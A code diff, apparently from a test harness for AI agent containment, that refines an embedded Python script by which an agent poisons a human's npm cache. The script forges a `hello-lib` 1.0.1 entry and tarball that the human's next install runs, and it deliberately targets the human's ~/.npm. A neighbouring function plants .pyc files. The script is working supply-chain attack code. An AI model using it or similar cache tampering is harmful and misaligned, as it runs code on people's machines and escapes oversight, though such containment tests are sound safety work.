@@ -70,11 +70,12 @@ const plantPyc = (siteGlob: string, markerPath: string) =>
 /**
  * Python (the agent's) that rewrites npm's cache so that the packument of `hello-lib` the human's registry served
  * lists a version 1.0.1 of its own, whose tarball it puts in the cache too: content blobs under their sha512 (which npm
- * checks), index lines copying the metadata of the human's entries (which nothing checks). The human's next
+ * checks), index lines copying the metadata of the human's entries (which nothing checks) — in the human's cache
+ * (~/.npm), whatever cache its own shell's npm is given. The human's next
  * `npm install hello-lib` (or `npx hello-lib`) installs it.
  */
 const poisonNpmCache = (markerPath: string) => `import base64, glob, hashlib, io, json, os, tarfile, time
-cache = os.path.join(os.environ.get('npm_config_cache') or os.path.expanduser('~/.npm'), '_cacache')
+cache = os.path.expanduser('~/.npm/_cacache')
 def blob(b):
     d = hashlib.sha512(b).digest(); hx = d.hex()
     p = os.path.join(cache, 'content-v2', 'sha512', hx[:2], hx[2:4], hx[4:])
@@ -91,7 +92,7 @@ def put(key, b, like):
     s = json.dumps(e); p = bucket(key); os.makedirs(os.path.dirname(p), exist_ok=True)
     open(p, 'a').write('\\n' + hashlib.sha1(s.encode()).hexdigest() + '\\t' + s)
 keys = [json.loads(l.split('\\t', 1)[1])['key'] for f in glob.glob(cache + '/index-v5/*/*/*') for l in open(f) if '\\t' in l]
-pk = [k for k in keys if k.endswith('/hello-lib')][0]
+pk = [k for k in keys if k.startswith('make-fetch-happen:') and k.endswith('/hello-lib')][0]
 old = last(pk)
 hx = base64.b64decode(old['integrity'].split('-', 1)[1]).hex()
 doc = json.load(open(os.path.join(cache, 'content-v2', 'sha512', hx[:2], hx[2:4], hx[4:])))
